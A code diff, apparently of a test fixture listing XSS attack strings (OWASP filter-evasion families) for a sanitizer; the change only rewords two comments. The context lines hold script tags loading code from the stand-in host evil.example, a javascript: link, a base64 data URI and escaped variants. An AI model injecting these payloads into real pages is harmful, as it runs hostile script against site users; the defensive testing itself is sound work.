@@ -3,7 +3,7 @@
  * them. Covers the families of the OWASP filter evasion list, and attacks particular to this product.
  */
 export const attackTexts: readonly string[] = [
-  // Plain markup, and what breaks out of the place it stands in.
+  // Plain markup, and texts that break out of their context.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script src=//evil.example/x.js>',
@@ -111,7 +111,7 @@ export const attackTexts: readonly string[] = [
   '![x](https://evil.example/x.png)',
   '[x]: javascript:alert(1)',
   'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  // What is already escaped once or twice, or in another script of signs.
+  // Texts already escaped once or twice, or in another encoding of signs.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
